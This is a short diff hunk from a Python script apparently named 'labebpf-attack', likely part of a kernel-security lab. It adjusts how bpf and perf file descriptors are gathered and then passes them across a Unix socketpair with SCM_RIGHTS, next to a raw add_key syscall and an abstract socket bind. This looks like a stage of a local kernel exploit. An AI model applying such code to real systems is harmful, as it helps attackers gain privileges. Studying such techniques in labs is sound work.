@@ -21,10 +21,13 @@ libc.syscall(248, b"user", b"labebpf-attack", b"x", 1, -4)
 abstract = socket.socket(socket.AF_UNIX)
 abstract.bind("\0labebpf-attack")
 one, other = socket.socketpair()
-fds = [int(name) for name in os.listdir("/proc/self/fd")]
-held = [fd for fd in fds if "bpf" in os.readlink(f"/proc/self/fd/{fd}")
-        or "perf" in os.readlink(f"/proc/self/fd/{fd}")] if fds else []
-held += [one.fileno(), other.fileno()]
+held = [one.fileno(), other.fileno()]
+for fd in range(3, 64):
+    try:
+        kind = os.readlink(f"/proc/self/fd/{fd}")
+    except OSError:
+        continue
+    held += [fd] if "bpf" in kind or "perf" in kind else []
 rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", held))]
 one.sendmsg([b"x"], rights)
 other.sendmsg([b"x"], rights)
